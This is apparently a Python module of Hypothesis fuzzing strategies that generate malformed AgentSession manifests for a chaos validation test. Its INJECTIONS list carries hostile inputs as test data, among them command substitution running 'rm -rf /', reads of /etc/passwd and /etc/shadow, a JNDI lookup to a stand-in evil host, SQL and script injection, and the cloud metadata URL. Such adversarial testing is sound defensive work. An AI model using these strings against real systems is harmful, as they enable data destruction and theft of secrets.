"""Hypothesis strategies for random and adversarial AgentSession manifests.

`bad_manifests()` starts from a valid session of any pattern (tests/strategies.py) and breaks
it in one or two ways, each drawn from `FLAWS`: wrong types, strings and lists far beyond
their bounds, out-of-range quantities, durations and numbers, unknown fields, bad names,
injection-looking strings, characters regex engines read differently (Unicode whitespace, a
vertical tab) inside otherwise valid strings, fields of another pattern or repeated list
items, contradicting placements (BAD_SCHEDULINGS), and values that are valid but extreme.
Where a value goes is read from the CRD's own schema (generated from the pydantic models),
so a field added to the API is broken too without a change here.

Nothing here predicts whether the API server accepts a manifest: the chaos test
(tests/chaos/test_chaos_bad_input.py) applies them and checks what happens either way.
Huge values are built from a short draw (a character times a count), never drawn character by
character, so a run stays fast.
"""

from __future__ import annotations

import copy
import itertools
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from hypothesis import strategies as st

from corral.api import v1alpha1 as api
from corral.api.crd import openapi_schema
from strategies import session_manifest, sessions

Path = tuple[str | int, ...]

FLAWS = (
    "valid",
    "wrong_type",
    "huge",
    "out_of_range",
    "unknown_field",
    "bad_name",
    "injection",
    "conflict",
    "extreme",
    "odd_character",
)
# Characters regex engines disagree on: whitespace to Python's and Rust's `\s` but not to
# Go's (ASCII only), zero-width and direction marks, a NUL.
ODD_CHARACTERS = [
    "\x0b",
    "\x85",
    "\u00a0",
    "\u2028",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x00",
]

INJECTIONS = [
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "' OR '1'='1",
    '"; DROP TABLE sessions; --',
    "{{ .Values.secret }}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/shadow",
    "%2e%2e%2f%2e%2e%2f",
    "\x00\x01\x1b[31m",
    "line\nsecond: injected\n---\nkind: Secret",
    "a\u202eb\u200bc\ufeff",
    "\\u0000\\n",
    "http://169.254.169.254/latest/meta-data/",
    "x\x0by",  # a vertical tab: whitespace to Python and Rust, not to Go's \s
    "x\u00a0y",  # a no-break space: the same
    "ünïcödé-名前",
]

BAD_NAMES = st.one_of(
    st.sampled_from(
        ["", "-a", "a-", "A", "UPPER", "a_b", "a..b", ".a", "a.", "a b", "a/b", "*", "a\nb"]
    ),
    st.integers(254, 400).map(lambda n: "a" * n),
    st.sampled_from(INJECTIONS),
    st.text(min_size=1, max_size=20),
)

WRONG_TYPES: st.SearchStrategy[Any] = st.one_of(
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.none(),
    st.text(max_size=20),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)

BAD_QUANTITIES = st.sampled_from(
    ["0", "-1", "-1Gi", "0.0000001", "1n", "1e-9", "1e100", "1000Ei", "9999999999999999999",
     "1Gb", "1 Gi", "Gi", "", "1.2.3", "0x10", "+", "∞"]
)  # fmt: skip
BAD_DURATIONS = st.sampled_from(
    ["0s", "0ms", "999ms", "-5m", "1", "1d", "1w", "5 m", "", "1.5h", "h",
     "2562048h", "9223372036854775807ns", "99999999999999999999h", "1h-1m"]
)  # fmt: skip
EXTREME_QUANTITIES = st.sampled_from(
    ["1Ei", "999999", "1e18", "8Ei", "100000000Mi", "64Gi", "256Mi", "0.001", "1n"]
)
EXTREME_DURATIONS = st.sampled_from(["1s", "1000ms", "2562047h", "99999h59m59s", "1h1m1s1ms"])

# Placements the API server must refuse (or, for the repeats, take and the operator
# de-duplicate): fields that contradict each other, and map keys, which the schema's paths
# never reach.
BAD_SCHEDULINGS: list[dict[str, Any]] = [
    {"tolerations": [{"key": "gpu", "operator": "Exists", "value": "yes"}]},
    {"tolerations": [{"value": "gpu", "effect": "NoSchedule"}]},
    {"tolerations": [{"key": "", "operator": "Equal", "value": ""}]},
    {"tolerations": [{"key": "gpu", "effect": "NoSchedule", "tolerationSeconds": 5}]},
    {"tolerations": [{"operator": "Exists", "tolerationSeconds": 5}]},
    {"tolerations": [{"key": "a" * 254 + "/b", "operator": "Exists"}]},
    {"tolerations": [{"key": "gpu", "operator": "Lt", "value": "4"}]},
    {"tolerations": [{"operator": "Exists"}] * 33},
    {"tolerations": [{"key": "k", "operator": "Exists"}, {"key": "k", "operator": "Exists"}]},
    {"nodeSelector": {"": "x"}},
    {"nodeSelector": {"pool name": "x"}},
    {"nodeSelector": {"pool\n": "x"}},
    {"nodeSelector": {"pool\u00a0": "x"}},
    {"nodeSelector": {"/pool": "x"}},
    {"nodeSelector": {"Example.com/pool": "x"}},
    {"nodeSelector": {"a" * 254 + "/b": "x"}},
    {"nodeSelector": {"example.com/" + "n" * 64: "x"}},
    {"nodeSelector": {"pool": "x" * 64}},
    {"nodeSelector": {"pool": "-x"}},
    {"nodeSelector": {f"k{i}": "v" for i in range(33)}},
]


@cache
def spec_schema() -> dict[str, Any]:
    return openapi_schema(api.AgentSessionSpec)


def leaves(schema: dict[str, Any], path: Path = ()) -> list[tuple[Path, dict[str, Any]]]:
    """Every field of `schema` with its path (`0` for a list's first item)."""
    found: list[tuple[Path, dict[str, Any]]] = [(path, schema)] if path else []
    for name, prop in (schema.get("properties") or {}).items():
        found += leaves(prop, (*path, name))
    if schema.get("type") == "array" and isinstance(schema.get("items"), dict):
        found += leaves(schema["items"], (*path, 0))
    return found


@cache
def spec_fields() -> tuple[tuple[Path, tuple[tuple[str, Any], ...]], ...]:
    return tuple((path, tuple(sorted(s.items()))) for path, s in leaves(spec_schema()))


@dataclass
class Case:
    """One manifest to apply, and how it was broken (for the report)."""

    manifest: dict[str, Any]
    pattern: str
    flaws: list[str] = field(default_factory=list)
    strict: bool = False  # fieldValidation=Strict: unknown fields refused, not dropped
    # Applied as a change to an accepted session (the `target`-th, modulo) rather than made.
    update: bool = False
    target: int = 0

    @property
    def named_badly(self) -> bool:
        return "bad_name" in self.flaws


def put(body: dict[str, Any], path: Path, value: Any) -> None:
    """Set `path` in `body`, making the objects and lists on the way (an index beyond a
    list's end appends)."""
    here: Any = body
    for step, following in itertools.pairwise(path):
        fresh: Any = [] if isinstance(following, int) else {}
        if isinstance(step, int):
            if not isinstance(here, list):
                return
            if step >= len(here):
                here.append(fresh)
                step = len(here) - 1
            if not isinstance(here[step], type(fresh)):
                here[step] = fresh
            here = here[step]
        else:
            if not isinstance(here, dict):
                return
            if not isinstance(here.get(step), type(fresh)):
                here[step] = fresh
            here = here[step]
    last = path[-1]
    if isinstance(last, int):
        if isinstance(here, list):
            if last < len(here):
                here[last] = value
            else:
                here.append(value)
    elif isinstance(here, dict):
        here[last] = value


def strings_in(value: Any, path: Path = ()) -> list[tuple[Path, str]]:
    """Every string in `value` with its path (list items by index)."""
    if isinstance(value, str):
        return [(path, value)] if path else []
    if not isinstance(value, dict | list):
        return []
    items: Any = value.items() if isinstance(value, dict) else enumerate(value)
    return [found for key, item in items for found in strings_in(item, (*path, key))]


def huge_string(draw: st.DrawFn, limit: int) -> str:
    char = draw(st.sampled_from(["a", "é", "\u4e00", "\U0001f600", " ", "\n"]))
    return char * draw(st.integers(limit + 1, max(limit * 3, limit + 10)))


def out_of_range(draw: st.DrawFn, schema: dict[str, Any]) -> Any:
    kind = schema.get("type")
    pattern = str(schema.get("pattern", ""))
    if kind == "integer":
        return draw(
            st.sampled_from([-1, 0, -(2**31), 2**31, 2**53 + 1, 2**63 - 1, 2**63, 10**30])
            | st.integers(int(schema.get("maximum", 10**6)) + 1, 2**64)
        )
    if kind == "number":
        return draw(st.sampled_from([0, -0.0, -1, 10_000.0001, 1e308, -1e308, 5e-324]))
    if "ms|s|m|h" in pattern:
        return draw(BAD_DURATIONS)
    if "KMGTPE" in pattern:
        return draw(BAD_QUANTITIES)
    if "enum" in schema:
        return draw(st.sampled_from(["", "batch", "LONGRUNNING", "Ephemeral ", "null"]))
    return draw(st.sampled_from(["", " ", "\t", "-", "?", "a" * 64]))


def extreme(draw: st.DrawFn, schema: dict[str, Any]) -> Any:
    """A value the schema allows at its very edge."""
    kind = schema.get("type")
    pattern = str(schema.get("pattern", ""))
    if kind == "integer":
        return draw(st.sampled_from([schema.get("minimum", 0), schema.get("maximum", 2**31 - 1)]))
    if kind == "number":
        return draw(st.sampled_from([5e-324, 1e-9, schema.get("maximum", 1e300)]))
    if "ms|s|m|h" in pattern:
        return draw(EXTREME_DURATIONS)
    if "KMGTPE" in pattern:
        return draw(EXTREME_QUANTITIES)
    if kind == "string" and not pattern and "enum" not in schema:
        limit = int(schema.get("maxLength", 1024))
        return draw(st.sampled_from(["x", "\U0001f600", "\u4e00"])) * limit
    return None


@st.composite
def _flawed_spec(draw: st.DrawFn, flaw: str, spec: dict[str, Any], pattern: str) -> dict[str, Any]:
    fields = spec_fields()
    path, items = draw(st.sampled_from(fields))
    schema = dict(items)
    if flaw == "wrong_type":
        put(spec, path, draw(WRONG_TYPES))
    elif flaw == "huge":
        if schema.get("type") == "array":
            element: Any = draw(st.sampled_from(["x", {"name": "a"}, 1]))
            count = int(schema.get("maxItems", 64)) + draw(st.integers(1, 500))
            put(spec, path, [copy.deepcopy(element) for _ in range(count)])
        else:
            put(spec, path, huge_string(draw, int(schema.get("maxLength", 4096))))
    elif flaw == "out_of_range":
        put(spec, path, out_of_range(draw, schema))
    elif flaw == "unknown_field":
        name = draw(st.sampled_from(["foo", "max_turns", "Pattern", "status", "$ref", "x" * 300]))
        where = draw(st.sampled_from([(), ("resources",), ("network",), ("storage",)]))
        put(spec, (*where, name), draw(WRONG_TYPES))
    elif flaw == "injection":
        strings = [p for p, items in fields if dict(items).get("type") == "string"]
        put(spec, draw(st.sampled_from(strings)), draw(st.sampled_from(INJECTIONS)))
    elif flaw == "conflict":
        other = {
            "agents": [{"name": "a"}, {"name": "b"}],
            "idleTimeout": "5m",
            "storage": {"size": "1Gi"},
            "ttlSecondsAfterFinished": 60,
            "cleanupAfterFinished": "Children",
            "activeDeadlineSeconds": 60,
            "retries": 3,
        }
        choice = draw(st.sampled_from([*sorted(other), "repeat", "pattern", "scheduling"]))
        if choice == "repeat":
            target = draw(
                st.sampled_from(
                    [
                        ("allowedTools", "Bash"),
                        ("agents", {"name": "a"}),
                        ("mcpServers", {"name": "m", "url": "https://a.example"}),
                        ("network", "ingressFromNamespaces", "ns"),
                        ("network", "allowedDomains", "a.example"),
                    ]
                )
            )
            put(spec, target[:-1], [target[-1], copy.deepcopy(target[-1])])
        elif choice == "pattern":
            spec["pattern"] = draw(st.sampled_from([p for p in api.Pattern if p != pattern]))
        elif choice == "scheduling":
            spec["scheduling"] = draw(st.sampled_from(BAD_SCHEDULINGS))
        else:
            spec[choice] = other[choice]
    elif flaw == "odd_character":
        present = [(p, v) for p, v in strings_in(spec) if p[0] != "pattern"]
        if present:
            where, value = draw(st.sampled_from(present))
            at = draw(st.integers(0, len(value)))
            put(spec, where, value[:at] + draw(st.sampled_from(ODD_CHARACTERS)) + value[at:])
    elif flaw == "extreme":
        value = extreme(draw, schema)
        if value is not None:
            put(spec, path, value)
        elif schema.get("type") == "array" and path == ("allowedTools",):
            spec["allowedTools"] = [f"tool-{i}" for i in range(int(schema["maxItems"]))]
    return spec


@st.composite
def bad_manifests(draw: st.DrawFn, namespace: str) -> Case:
    """A manifest for `namespace` broken in one or two ways (or not at all: the `valid`
    flaw). Its name is only meant to be kept when `named_badly`: a caller names the others
    uniquely."""
    pattern = draw(st.sampled_from(list(api.Pattern)))
    manifest = session_manifest(draw(sessions(pattern)))
    manifest["metadata"] = {
        "name": "unnamed",
        "namespace": namespace,
    }
    case = Case(
        manifest,
        pattern.value,
        strict=draw(st.booleans()),
        update=draw(st.integers(0, 9)) == 0,
        target=draw(st.integers(0, 10**6)),
    )
    for flaw in draw(st.lists(st.sampled_from(FLAWS), min_size=1, max_size=2)):
        case.flaws.append(flaw)
        if flaw == "valid":
            continue
        if flaw == "bad_name":
            manifest["metadata"]["name"] = draw(BAD_NAMES)
        elif flaw == "unknown_field" and draw(st.booleans()):
            manifest[draw(st.sampled_from(["extra", "Spec", "specs"]))] = {"x": 1}
        else:
            manifest["spec"] = draw(_flawed_spec(flaw, manifest["spec"], pattern.value))
    return case
